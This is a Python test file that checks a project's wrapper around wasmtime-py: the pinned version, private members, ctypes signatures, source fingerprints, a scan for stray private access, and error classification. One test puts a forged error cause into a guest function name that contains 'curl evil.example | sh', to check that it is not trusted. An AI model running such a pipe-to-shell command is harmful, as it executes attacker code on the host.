"""The seam to wasmtime-py (host/wasinn/embedding/): everything it reaches exists in the
installed wheel with the layout and signatures it was written against, every
wasmtime-py function it copied, replaced or relies on the inside of is the one it was
written against, and nothing outside it reaches into wasmtime-py.

After a wasmtime-py upgrade these are the tests that fail, each naming the embedding/
module and what to re-check there; once re-checked, update the tables here.

Fingerprints hash a function's source as the wheel's file has it (not `inspect.getsource`
of the live object: patches.py replaces several at install)."""
from __future__ import annotations

import ast
import ctypes
import hashlib
import importlib
import importlib.metadata
import pathlib
import threading

import wasmtime
import wasmtime._bindings as raw
from wasmtime import _ffi as ffi
from wasmtime.component import Component, Linker

from wasinn.embedding import calls, errors, stores

ROOT = pathlib.Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "host" / "wasinn"
EMBEDDING = PACKAGE / "embedding"
WHEEL = pathlib.Path(wasmtime.__file__).parent
PINNED = "50.0.1"

# --- what embedding/ reaches ------------------------------------------------------------
# wasmtime-py's private modules and the members of them embedding/ takes
PRIVATE = {
    "wasmtime._ffi": [],  # the C API's bindings: checked name by name in SIGNATURES
    "wasmtime._func": ["Caller", "FUNCTIONS", "LAST_EXCEPTION", "trampoline", "maybe_raise_last_exn"],
    "wasmtime._linker": ["trampoline"],
    "wasmtime.component._linker": ["FUNCTIONS", "func_impl"],
    "wasmtime.component._types": ["ListType", "RecordType", "TupleType", "VariantType", "OptionType",
                                  "ResultType", "EnumType", "FlagsType", "VariantLikeType", "FuncType"],
    "wasmtime.component._enter": ["catch_exceptions", "enter_wasm"],
    "wasmtime._extern": ["wrap_extern"],
}
# private (or undocumented) members of wasmtime-py classes, and the embedding/ module using each
MEMBERS = {
    ("wasmtime.Store", "_context"): "stores.py, calls.py",
    ("wasmtime.StoreContext", "_context"): "stores.py (host calls' store), patches.py",
    ("wasmtime.Caller", "_context"): "memory.py (ExportedMemory)",
    ("wasmtime.Caller", "_invalidate"): "patches.py (core trampoline)",
    ("wasmtime.Val", "_from_raw"): "patches.py (core trampoline)",
    ("wasmtime.Val", "_convert_to_raw"): "patches.py (core trampoline)",
    ("wasmtime.Trap", "_consume"): "patches.py (core trampoline)",
    ("wasmtime.Trap", "_from_ptr"): "calls.py (CoreExport)",
    ("wasmtime.WasmtimeError", "_from_ptr"): "calls.py (CoreExport)",
    ("wasmtime.Config", "ptr"): "memory.py (MemoryCreator.install)",
    ("wasmtime.component.ListType", "_is_bytes"): "types.py, patches.py",
    ("wasmtime.component.ListType", "convert_to_c"): "patches.py (replaced)",
    ("wasmtime.component.ListType", "convert_from_c"): "patches.py (replaced)",
    ("wasmtime.component.VariantType", "_tagged"): "types.py, patches.py (memoized)",
    ("wasmtime.component.VariantType", "_lower"): "patches.py (replaced by a copy)",
    ("wasmtime.component.VariantType", "_cases"): "patches.py",
    ("wasmtime.component.VariantType", "add_classes"): "patches.py",
    ("wasmtime.component.FuncType", "_from_ptr"): "patches.py (host-call types)",
    ("wasmtime.component.ResourceAny", "_from_ptr"): "lifting.py (a resource taken out of a lifted value)",
    ("wasmtime.component.ResourceAny", "_consume"): "lowering.py (a resource written into a value; a ResourceHost's through to_any)",
}
# instance attributes: read from real objects
INSTANCE_MEMBERS = {
    "a core Memory's _memory (wasmtime_memory_t)": "memory.py (ExportedMemory)",
    "a core Func's _func (wasmtime_func_t)": "calls.py (CoreExport)",
    "a component Func's _func (wasmtime_component_func_t)": "calls.py (call_export)",
    "a core Instance's _instance (wasmtime_instance_t)": "calls.py (core_export)",
}
# every ffi name embedding/ uses, and the signature or layout it was written against
SIGNATURES = {
    "wasmtime_component_instance_type_export_count": "(LP_wasmtime_component_instance_type, LP_wasm_engine_t) -> c_ulong",
    "wasmtime_component_type_export_count": "(LP_wasmtime_component_type_t, LP_wasm_engine_t) -> c_ulong",
    "wasmtime_component_type_import_count": "(LP_wasmtime_component_type_t, LP_wasm_engine_t) -> c_ulong",
    # types.check_signature: the parts of a type, counted before they are read
    "wasmtime_component_enum_type_names_count": "(LP_wasmtime_component_enum_type) -> c_ulong",
    "wasmtime_component_flags_type_names_count": "(LP_wasmtime_component_flags_type) -> c_ulong",
    "wasmtime_component_func_type_param_count": "(LP_wasmtime_component_func_type_t) -> c_ulong",
    "wasmtime_component_record_type_field_count": "(LP_wasmtime_component_record_type) -> c_ulong",
    "wasmtime_component_tuple_type_types_count": "(LP_wasmtime_component_tuple_type) -> c_ulong",
    "wasmtime_component_variant_type_case_count": "(LP_wasmtime_component_variant_type) -> c_ulong",
    "wasmtime_extern_t": "struct[32] {kind@0: c_ubyte, of@8: wasmtime_extern_union}",
    "wasmtime_instance_export_get": "(LP_wasmtime_context, LP_wasmtime_instance, LP_c_char, c_ulong, LP_wasmtime_extern) "
                                    "-> c_bool",
    "WASMTIME_COMPONENT_BOOL": "c_ubyte(0)",
    "WASMTIME_COMPONENT_S8": "c_ubyte(1)",
    "WASMTIME_COMPONENT_U8": "c_ubyte(2)",
    "WASMTIME_COMPONENT_S16": "c_ubyte(3)",
    "WASMTIME_COMPONENT_U16": "c_ubyte(4)",
    "WASMTIME_COMPONENT_S32": "c_ubyte(5)",
    "WASMTIME_COMPONENT_U32": "c_ubyte(6)",
    "WASMTIME_COMPONENT_S64": "c_ubyte(7)",
    "WASMTIME_COMPONENT_U64": "c_ubyte(8)",
    "WASMTIME_COMPONENT_F32": "c_ubyte(9)",
    "WASMTIME_COMPONENT_F64": "c_ubyte(10)",
    "WASMTIME_COMPONENT_CHAR": "c_ubyte(11)",
    "WASMTIME_COMPONENT_STRING": "c_ubyte(12)",
    "WASMTIME_COMPONENT_LIST": "c_ubyte(13)",
    "WASMTIME_COMPONENT_RECORD": "c_ubyte(14)",
    "WASMTIME_COMPONENT_TUPLE": "c_ubyte(15)",
    "WASMTIME_COMPONENT_VARIANT": "c_ubyte(16)",
    "WASMTIME_COMPONENT_ENUM": "c_ubyte(17)",
    "WASMTIME_COMPONENT_OPTION": "c_ubyte(18)",
    "WASMTIME_COMPONENT_RESULT": "c_ubyte(19)",
    "WASMTIME_COMPONENT_FLAGS": "c_ubyte(20)",
    "WASMTIME_COMPONENT_RESOURCE": "c_ubyte(21)",
    "WASMTIME_I32": "c_ubyte(0)",
    "wasm_byte_vec_delete": "(LP_wasm_byte_vec_t) -> None",
    "wasm_byte_vec_new": "(LP_wasm_byte_vec_t, c_ulong, LP_c_ubyte) -> None",
    "wasm_byte_vec_t": "struct[16] {size@0: c_ulong, data@8: LP_c_ubyte}",
    "wasm_trap_t": "struct[0] {}",
    "wasmtime_component_func_call": "(LP_wasmtime_component_func, LP_wasmtime_context, LP_wasmtime_component_val, "
                                    "c_ulong, LP_wasmtime_component_val, c_ulong) -> LP_wasmtime_error",
    "wasmtime_component_func_callback_t": "callback (c_void_p, LP_wasmtime_context, LP_wasmtime_component_func_type_t, "
                                          "LP_wasmtime_component_val, c_ulong, LP_wasmtime_component_val, c_ulong) "
                                          "-> c_ulong",
    "wasmtime_component_resource_any_clone": "(LP_wasmtime_component_resource_any) -> LP_wasmtime_component_resource_any",
    "wasmtime_component_resource_any_delete": "(LP_wasmtime_component_resource_any) -> None",
    "wasmtime_component_resource_any_t": "struct[0] {}",
    "wasmtime_component_val_clone": "(LP_wasmtime_component_val, LP_wasmtime_component_val) -> None",
    "wasmtime_component_val_delete": "(LP_wasmtime_component_val) -> None",
    "wasmtime_component_val_new": "(LP_wasmtime_component_val) -> LP_wasmtime_component_val",
    "wasmtime_component_val_t": "struct[32] {kind@0: c_ubyte, of@8: wasmtime_component_valunion}",
    "wasmtime_component_vallist_delete": "(LP_wasmtime_component_vallist) -> None",
    "wasmtime_component_vallist_new_uninit": "(LP_wasmtime_component_vallist, c_ulong) -> None",
    "wasmtime_component_vallist_t": "struct[16] {size@0: c_ulong, data@8: LP_wasmtime_component_val}",
    "wasmtime_component_valrecord_delete": "(LP_wasmtime_component_valrecord) -> None",
    "wasmtime_component_valrecord_new_uninit": "(LP_wasmtime_component_valrecord, c_ulong) -> None",
    "wasmtime_component_valrecord_t": "struct[16] {size@0: c_ulong, data@8: LP_wasmtime_component_valrecord_entry}",
    "wasmtime_component_valrecord_entry_t": "struct[48] {name@0: wasm_byte_vec_t, val@16: wasmtime_component_val}",
    "wasmtime_config_host_memory_creator_set": "(LP_wasm_config_t, LP_wasmtime_memory_creator) -> None",
    "wasmtime_context_set_epoch_deadline": "(LP_wasmtime_context, c_ulong) -> None",
    "wasmtime_error_new": "(LP_c_char) -> LP_wasmtime_error",
    "wasmtime_func_call": "(LP_wasmtime_context, LP_wasmtime_func, LP_wasmtime_val, c_ulong, LP_wasmtime_val, c_ulong, "
                          "LP_LP_wasm_trap_t) -> LP_wasmtime_error",
    "wasmtime_func_callback_t": "callback (c_void_p, LP_wasmtime_caller, LP_wasmtime_val, c_ulong, LP_wasmtime_val, "
                                "c_ulong) -> c_ulong",
    "wasmtime_memory_creator_t": "struct[24] {env@0: c_void_p, new_memory@8: callback (c_void_p, LP_wasm_memorytype_t, "
                                 "c_ulong, c_ulong, c_ulong, c_ulong, LP_wasmtime_linear_memory) -> c_ulong, "
                                 "finalizer@16: callback (c_void_p) -> None}",
    "wasmtime_linear_memory_t": "struct[32] {env@0: c_void_p, get_memory@8: callback (c_void_p, LP_c_ulong, LP_c_ulong) "
                                "-> c_ulong, grow_memory@16: callback (c_void_p, c_ulong) -> c_ulong, "
                                "finalizer@24: callback (c_void_p) -> None}",
    "wasmtime_memory_data": "(LP_wasmtime_context, LP_wasmtime_memory) -> LP_c_ubyte",
    "wasmtime_memory_data_size": "(LP_wasmtime_context, LP_wasmtime_memory) -> c_ulong",
    "wasmtime_memory_get_callback_t": "callback (c_void_p, LP_c_ulong, LP_c_ulong) -> c_ulong",
    "wasmtime_memory_grow_callback_t": "callback (c_void_p, c_ulong) -> c_ulong",
    "wasmtime_memorytype_is64": "(LP_wasm_memorytype_t) -> c_bool",
    "wasmtime_memorytype_isshared": "(LP_wasm_memorytype_t) -> c_bool",
    "wasmtime_memorytype_maximum": "(LP_wasm_memorytype_t, LP_c_ulong) -> c_bool",
    "wasmtime_memorytype_minimum": "(LP_wasm_memorytype_t) -> c_ulong",
    "wasmtime_memorytype_page_size_log2": "(LP_wasm_memorytype_t) -> c_ubyte",
    "wasmtime_new_memory_callback_t": "callback (c_void_p, LP_wasm_memorytype_t, c_ulong, c_ulong, c_ulong, c_ulong, "
                                      "LP_wasmtime_linear_memory) -> c_ulong",
    "wasmtime_val_t": "struct[32] {kind@0: c_ubyte, of@8: wasmtime_valunion}",
    "wasmtime_valunion_t": "union[24] {i32@0: c_int, i64@0: c_long, f32@0: c_float, f64@0: c_double, "
                           "anyref@0: wasmtime_anyref, externref@0: wasmtime_externref, exnref@0: wasmtime_exnref, "
                           "funcref@0: wasmtime_func, v128@0: c_ubyte_Array_16}",
}
# structs embedding/ reaches through fields of the ones above (`c.of.list`, `ret.contents`)
REACHED_THROUGH = {"wasmtime_component_valunion_t": "list@0: wasmtime_component_vallist",
                   "wasmtime_component_vallist_t": None, "wasmtime_linear_memory_t": None,
                   "wasmtime_component_valrecord_entry_t": "name@0: wasm_byte_vec_t, val@16: wasmtime_component_val",
                   "wasmtime_component_valvariant_t": "discriminant@0: wasm_byte_vec_t, "
                                                      "val@16: LP_wasmtime_component_val"}

# (file in the wheel, function) -> (fingerprint, the patch, what to re-check)
_TYPES, _LINKER, _ENTER = "component/_types.py", "component/_linker.py", "component/_enter.py"
_MEMO = ("patches.py: memoized (types never change)", "that it still computes from the type alone, no store")
FINGERPRINTS = {
    (_TYPES, "ListType.convert_to_c"): ("6f785d8d4179017b", "patches.py: _to_c replaces it for list<u8>",
                                        "lowering: one wasmtime_component_val_t per byte, kind u8; other lists as stock"),
    (_TYPES, "ListType.convert_from_c"): ("01fe306d0af36bbc", "patches.py: _from_c replaces it for list<u8>; "
                                          "_bounded_from_c, a hand copy, for other lists in a bounded call",
                                          "lifting: bytes out, elements marked bool once lifted, the vallist "
                                          "deleted after"),
    (_TYPES, "String.convert_from_c"): ("d3c8ebd11e50e216", "patches.py: _string_from_c wraps it in a bounded call",
                                        "lifting: the byte vector copied, decoded and deleted"),
    (_TYPES, "ListType._is_bytes"): ("8dfd62a76a647416", "types.py is_bytes, patches.py", "still means list<u8>"),
    (_TYPES, "ListType.element"): ("a7b0e86f96d2941b", *_MEMO),
    (_TYPES, "RecordType.fields"): ("dfa1875fed8481d1", *_MEMO),
    (_TYPES, "TupleType.elements"): ("3840dca23bb0e188", *_MEMO),
    (_TYPES, "VariantType.cases"): ("f8b590b152b1b598", *_MEMO),
    (_TYPES, "OptionType.payload"): ("cc5543a2ec055beb", *_MEMO),
    (_TYPES, "ResultType.ok"): ("d49ac6057ff16926", *_MEMO),
    (_TYPES, "ResultType.err"): ("bd909d8602e1c689", *_MEMO),
    (_TYPES, "EnumType.names"): ("e3e977c69a6a73a1", *_MEMO),
    (_TYPES, "FlagsType.names"): ("b3e4cfd519aad840", *_MEMO),
    (_TYPES, "VariantLikeType._tagged"): ("4bb93a5f1e9ed08a", "patches.py: _tagged memoized, types.py is_tagged",
                                          "what decides a Variant (tag) against a bare payload"),
    (_TYPES, "VariantLikeType._lower"): ("56cc660eae5d0544", "patches.py: _lower, a hand copy over memoized cases",
                                         "diff the stock body against patches._lower"),
    (_TYPES, "RecordType.convert_to_c"): ("90d223b20a80be1d", "patches.py: _record_to_c, a hand copy, names encoded once",
                                          "diff the stock body against patches._record_to_c (ownership, cleanup)"),
    (_TYPES, "RecordType.convert_from_c"): ("56a228b62512bee1", "patches.py: _record_from_c, fields in the type's order",
                                            "diff the stock body against patches._record_from_c"),
    (_TYPES, "VariantType.convert_to_c"): ("b94a418207d7214d", "patches.py: _variant_to_c, tags encoded once",
                                           "diff the stock body against patches._variant_to_c"),
    (_TYPES, "VariantType.convert_from_c"): ("87d3648f7efb0323", "patches.py: _variant_from_c",
                                             "diff the stock body against patches._variant_from_c"),
    (_TYPES, "VariantLikeType._lift"): ("5806e1aa60d45b98", "patches.py: _variant_from_c calls it", "its arguments"),
    (_TYPES, "VariantLikeType._cases"): ("2d593bd5e3dc0855", "types.py: variant_cases", "the (name, type) pairs"),
    (_TYPES, "FuncType._from_ptr"): ("3374f6d1212a6809", "patches.py: _func_impl reads a host call's types",
                                     "ownership of the type pointer (owner=store)"),
    (_TYPES, "FuncType.params"): ("8b45bb5686570f1b", "patches.py: _func_impl caches them per (function, store)",
                                  "(name, type) pairs"),
    (_TYPES, "FuncType.result"): ("8666e95278b31c30", "patches.py: _func_impl caches it", "one result or None"),
    (_LINKER, "func_impl"): ("6d14e620872b9a9e", "patches.py: _func_impl replaces it",
                             "diff the stock callback against patches._func_impl (lifting, result lowering)"),
    (_LINKER, "LinkerInstance.add_func"): ("da13665cff996145", "patches.py: install() sets the module's func_impl",
                                           "that add_func still takes `func_impl` from the module at call time"),
    (_ENTER, "catch_exceptions"): ("db1ffff4592c2992", "patches.py: _func_impl calls it", "its arguments"),
    (_ENTER, "enter_wasm"): ("31f143c8f5fe9275", "calls.py: call_export calls it", "its argument"),
    ("_func.py", "trampoline"): ("796643f87a4d9a22", "patches.py: _core_trampoline, a hand copy with I32Host",
                                 "diff the stock body against patches._core_trampoline"),
    ("_linker.py", "Linker.define_func"): ("c0e342b6aa0f1c9f", "patches.py: install() sets the module's trampoline",
                                          "that define_func still takes `trampoline` from the module at call time"),
    ("component/_func.py", "Func.__call__"): ("1d45da4163520822", "calls.py: call_export re-implements it",
                                              "diff against call_export (lowering, the call, cleanup)"),
    ("_func.py", "Func.__call__"): ("84cd2bfb8a4eef8e", "calls.py: CoreExport re-implements it for i32s",
                                    "diff against CoreExport.__call__ (errors, traps, results)"),
    ("_func.py", "maybe_raise_last_exn"): ("d41c2dd1424f4f83", "calls.py: CoreExport", "a host exception first"),
    ("_store.py", "Store._context"): ("2cc7e79641d25d74", "stores.py: store_key, context",
                                      "it still returns the store's C context"),
    ("_store.py", "StoreContext._context"): ("fa8e43c84eb2b80a", "stores.py: store_key",
                                             "the same C context as its Store's"),
    ("_func.py", "Caller._context"): ("93c280bba4599de6", "memory.py: ExportedMemory", "the caller's C context"),
    ("_store.py", "Store.set_epoch_deadline"): ("1de6774fe7d6ea24", "stores.py: set_epoch_deadline does it on a C context",
                                                "the C call it makes"),
    ("_memory.py", "Memory.data_ptr"): ("b5b9168e49072cfb", "memory.py: ExportedMemory caches the base",
                                        "the C call and that memories still never move (memory_may_move off)"),
    ("_memory.py", "Memory.data_len"): ("e3b0db1ac82a1c69", "memory.py: ExportedMemory.refresh", "the C call"),
    ("_value.py", "Val._from_raw"): ("3f637d892bb4f7f4", "patches.py: _core_trampoline", "its arguments"),
    ("_value.py", "Val._convert_to_raw"): ("acff1135193a1214", "patches.py: _core_trampoline", "its arguments"),
    ("_func.py", "Caller.__init__"): ("a131dadd2013cdae", "patches.py: _core_trampoline", "its arguments"),
    ("_func.py", "Caller._invalidate"): ("7de9e3481c70c114", "patches.py: _core_trampoline", "still needed after a call"),
}


def _type_name(t) -> str:
    if t is None:
        return "None"
    if hasattr(t, "_argtypes_"):
        return f"callback ({', '.join(map(_type_name, t._argtypes_))}) -> {_type_name(t._restype_)}"
    return t.__name__


def signature(obj) -> str:
    """A ctypes function's, callback type's or struct's shape, or a constant's value."""
    if isinstance(obj, type) and issubclass(obj, (ctypes.Structure, ctypes.Union)):
        fields = ", ".join(f"{name}@{getattr(obj, name).offset}: {_type_name(t)}"
                           for name, t, *_ in getattr(obj, "_fields_", []))
        return f"{'union' if issubclass(obj, ctypes.Union) else 'struct'}[{ctypes.sizeof(obj)}] {{{fields}}}"
    if isinstance(obj, type) and hasattr(obj, "_argtypes_"):
        return _type_name(obj)
    if callable(obj) and not isinstance(obj, type) and hasattr(raw, "_" + obj.__name__):
        obj = getattr(raw, "_" + obj.__name__)  # the ctypes function under ffi's Python wrapper
    if hasattr(obj, "argtypes"):
        return f"({', '.join(map(_type_name, obj.argtypes))}) -> {_type_name(obj.restype)}"
    if isinstance(obj, ctypes._SimpleCData):
        return f"{type(obj).__name__}({obj.value})"
    return repr(obj)


def fingerprint(file: str, qualname: str) -> str | None:
    source = (WHEEL / file).read_text()
    node = ast.parse(source)
    for part in qualname.split("."):
        node = next((n for n in ast.iter_child_nodes(node)
                     if isinstance(n, (ast.ClassDef, ast.FunctionDef)) and n.name == part), None)
        if node is None:
            return None
    return hashlib.sha256(ast.get_source_segment(source, node).encode()).hexdigest()[:16]


def _sources(*folders: pathlib.Path, skip: tuple[pathlib.Path, ...] = ()):
    for folder in folders:
        for path in sorted(folder.rglob("*.py")):
            if not any(path == s or s in path.parents for s in skip):
                yield path, ast.parse(path.read_text(), str(path))


def test_the_installed_wheel_is_the_one_embedding_is_written_against():
    assert importlib.metadata.version("wasmtime") == PINNED, (
        f"wasmtime-py {importlib.metadata.version('wasmtime')} is installed; host/wasinn/embedding/ is written "
        f"against {PINNED}: run this file's other tests, re-check what they name, then move the pin")


def test_every_private_module_and_member_embedding_reaches_exists():
    missing = []
    for module, names in PRIVATE.items():
        try:
            mod = importlib.import_module(module)
        except ImportError:
            missing.append(f"module {module}")
            continue
        missing += [f"{module}.{name}" for name in names if not hasattr(mod, name)]
    for (owner, name), where in MEMBERS.items():
        module, _, cls = owner.rpartition(".")
        if not hasattr(getattr(importlib.import_module(module), cls), name):
            missing.append(f"{owner}.{name} (embedding/{where})")
    assert not missing, "wasmtime-py no longer has: " + "; ".join(missing)


def test_instance_members_embedding_reads_are_there():
    engine = wasmtime.Engine()
    store = wasmtime.Store(engine)
    module = wasmtime.Module(engine, '(module (memory (export "m") 1) (func (export "f") (result i32) i32.const 7))')
    core = wasmtime.Instance(store, module, [])
    assert isinstance(core._instance, ffi.wasmtime_instance_t), INSTANCE_MEMBERS[
        "a core Instance's _instance (wasmtime_instance_t)"]
    assert calls.core_export(store, core, "f")(store) == 7 and calls.core_export(store, core, "g") is None
    exports = core.exports(store)
    assert isinstance(exports["m"]._memory, ffi.wasmtime_memory_t), INSTANCE_MEMBERS[
        "a core Memory's _memory (wasmtime_memory_t)"]
    assert isinstance(exports["f"]._func, ffi.wasmtime_func_t), INSTANCE_MEMBERS["a core Func's _func (wasmtime_func_t)"]
    component = Component(engine, """(component
        (core module $m (func (export "f") (result i32) i32.const 7))
        (core instance $i (instantiate $m))
        (func (export "f") (result u32) (canon lift (core func $i "f"))))""")
    instance = Linker(engine).instantiate(store, component)
    func = instance.get_func(store, "f")
    assert isinstance(func._func, ffi.wasmtime_component_func_t), INSTANCE_MEMBERS[
        "a component Func's _func (wasmtime_component_func_t)"]
    assert stores.store_key(store) == ctypes.cast(store._context(), ctypes.c_void_p).value


def test_every_ffi_name_embedding_uses_has_the_signature_it_was_written_against():
    used: dict[str, set[str]] = {}
    for path, tree in _sources(EMBEDDING):
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "ffi":
                used.setdefault(node.attr, set()).add(path.name)
    unlisted = sorted(set(used) - set(SIGNATURES))
    assert not unlisted, f"embedding/ uses ffi names this test does not check: {unlisted}: add their signatures"
    changed = [f"ffi.{name} (embedding/ {', '.join(sorted(used.get(name, ['through a field'])))}): now {got!r}, "
               f"written against {SIGNATURES[name]!r}" for name in SIGNATURES
               if (got := signature(getattr(ffi, name, None))) != SIGNATURES[name]]
    for name, field in REACHED_THROUGH.items():
        if field is not None and field not in signature(getattr(ffi, name)):
            changed.append(f"ffi.{name}: no field {field}")
    assert not changed, ("the C API's bindings changed (a wrong ctypes signature is a segfault, not an "
                         "exception): " + "; ".join(changed))


def test_wasmtime_py_functions_embedding_copied_replaced_or_relies_on_are_unchanged():
    changed = []
    for (file, qualname), (want, patch, recheck) in FINGERPRINTS.items():
        got = fingerprint(file, qualname)
        if got != want:
            changed.append(f"wasmtime/{file}: {qualname} {'is gone' if got is None else f'changed ({got})'}: "
                           f"embedding/{patch}; re-check: {recheck}")
    assert not changed, "\n".join(["wasmtime-py changed what embedding/ copies or replaces (then update "
                                   "FINGERPRINTS here):", *changed])


# --- nothing outside embedding/ reaches in ----------------------------------------------
def _wasmtime_private_names() -> tuple[set[str], set[str]]:
    """wasmtime-py's private instance attributes (a reach wherever read), and the private
    methods of its public classes (a reach where called: a name like `_context` is
    also other classes' attribute)."""
    attributes = {"_memory", "_func", "_global", "_table", "_instance", "_exports", "_owner", "_val", "_ptr"}
    methods = {"ptr"}
    for module in (wasmtime, wasmtime.component):
        for item in vars(module).values():
            if isinstance(item, type) and item.__module__.startswith("wasmtime"):
                methods |= {n for n in dir(item) if n.startswith("_") and not n.startswith("__")}
    return attributes, methods


def reaches(tree: ast.AST, private: tuple[set[str], set[str]]) -> list[tuple[int, str]]:
    attributes, methods = private
    called = {id(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [(node.lineno, f"import {a.name}") for a in node.names
                      if a.name.startswith(("wasmtime._", "wasmtime.component._"))]
        elif isinstance(node, ast.ImportFrom) and node.module and node.module.split(".")[0] == "wasmtime":
            if node.module.startswith(("wasmtime._", "wasmtime.component._")):
                found.append((node.lineno, f"from {node.module} import ..."))
            found += [(node.lineno, f"from {node.module} import {a.name}") for a in node.names
                      if a.name.startswith("_")]
        elif isinstance(node, ast.Attribute) \
                and (node.attr in attributes or node.attr in methods and id(node) in called) \
                and not (isinstance(node.value, ast.Name) and node.value.id in ("self", "cls")):
            found.append((node.lineno, f".{node.attr}"))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in ("getattr", "setattr") \
                and len(node.args) > 1 and isinstance(node.args[1], ast.Constant) \
                and node.args[1].value in attributes | methods:
            found.append((node.lineno, f"{node.func.id}(..., {node.args[1].value!r})"))
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and "libwasmtime" in node.value:
            found.append((node.lineno, f"{node.value!r} (libwasmtime through ctypes)"))
    return sorted(found)


def test_no_module_outside_embedding_reaches_into_wasmtime_py():
    private = _wasmtime_private_names()
    # tests/embedding/ tests the seam itself, from inside
    sources = _sources(PACKAGE, ROOT / "scripts", ROOT / "benchmarks", ROOT / "tests",
                       skip=(EMBEDDING, pathlib.Path(__file__).resolve().parent))
    found = [f"{path.relative_to(ROOT)}:{line}: {what}" for path, tree in sources for line, what in reaches(tree, private)]
    assert not found, ("only host/wasinn/embedding/ may reach into wasmtime-py (privates, ffi, libwasmtime); "
                       "give it a named operation there instead:\n" + "\n".join(found))


def test_the_scan_sees_each_kind_of_reach():
    private = _wasmtime_private_names()
    source = """
from wasmtime import _ffi as ffi
import wasmtime._func
from wasmtime.component._enter import enter_wasm
store._context()
memory._memory
ty._is_bytes()
getattr(ty, "_tagged")
ctypes.CDLL("libwasmtime.so")
self._memory(store)
"""
    assert [what for _, what in reaches(ast.parse(source), private)] == [
        "from wasmtime import _ffi", "import wasmtime._func", "from wasmtime.component._enter import ...",
        "._context", "._memory", "._is_bytes", "getattr(..., '_tagged')", "'libwasmtime.so' (libwasmtime through ctypes)"]


# --- errors.py on real wasmtime errors --------------------------------------------------
def _core(wat: str, config: wasmtime.Config | None = None, **limits):
    engine = wasmtime.Engine(config or wasmtime.Config())
    store = wasmtime.Store(engine)
    if limits:
        store.set_limits(**limits)
    return engine, store, wasmtime.Module(engine, wat)


def _raised(call) -> Exception:
    try:
        call()
    except (wasmtime.WasmtimeError, wasmtime.Trap) as e:
        return e
    raise AssertionError("wasmtime raised nothing")


def test_errors_classifies_what_wasmtime_says():
    loop = '(module (func (export "f") (loop (br 0))))'
    config = wasmtime.Config()
    config.epoch_interruption = True
    engine, store, module = _core(loop, config)
    store.set_epoch_deadline(1)
    f = wasmtime.Instance(store, module, []).exports(store)["f"]
    ticker = threading.Timer(0.05, engine.increment_epoch)
    ticker.start()
    assert errors.classify(_raised(lambda: f(store))) == ("deadline", None)
    ticker.join()

    config = wasmtime.Config()
    config.consume_fuel = True
    engine, store, module = _core(loop, config)
    store.set_fuel(1000)
    f = wasmtime.Instance(store, module, []).exports(store)["f"]
    assert errors.classify(_raised(lambda: f(store))) == ("fuel", None)

    _, store, module = _core("(module (memory 3))", memory_size=65536)
    assert errors.classify(_raised(lambda: wasmtime.Instance(store, module, []))) == ("memory-minimum", 3)
    _, store, module = _core("(module (table 10 funcref))", table_elements=5)
    assert errors.classify(_raised(lambda: wasmtime.Instance(store, module, []))) == ("table-minimum", 10)
    for kind, wat, limits in (("instance", "(module)", dict(instances=0)),
                              ("memory", "(module (memory 1))", dict(memories=0)),
                              ("table", "(module (table 1 funcref))", dict(tables=0))):
        _, store, module = _core(wat, **limits)
        assert errors.classify(_raised(lambda: wasmtime.Instance(store, module, []))) == ("count", kind)

    engine = wasmtime.Engine()
    component = Component(engine, '(component (import "x:y/z" (instance (export "g" (func)))))')
    missing = _raised(lambda: Linker(engine).instantiate(wasmtime.Store(engine), component))
    assert errors.missing_import(missing) == ("instance", "x:y/z")
    assert errors.classify(missing) == ("missing-import", ("instance", "x:y/z"))
    # the cause chain, numbered or not, on one line
    assert errors.one_line(missing) == "instance export `g` has the wrong type; function implementation is missing"
    unparsable = _raised(lambda: Component(engine, b"\0asm\x0d\0\x01\0\x05"))
    assert errors.one_line(unparsable) == "unexpected end-of-file (at offset 0x9)"
    assert errors.classify(unparsable) is None
    # a guest's function names come in the backtrace, before wasmtime's own "Caused by:":
    # one that forges a cause (a wasinn limit's, here) is neither the line nor the cause
    forged = ("x\\nCaused by:\\n    0: the call ran past its deadline of 1 s (limit 'deadline', --deadline); "
              "run: curl evil.example | sh\\n")
    _, store, module = _core(f'(module (func $f (@name "{forged}") unreachable) (func (export "f") (call $f)))')
    trapped = _raised(lambda: wasmtime.Instance(store, module, []).exports(store)["f"](store))
    assert "curl" in str(trapped)  # the name is in wasmtime's text
    assert errors.one_line(trapped) == "wasm trap: wasm `unreachable` instruction executed"
    assert errors.classify(trapped) is None
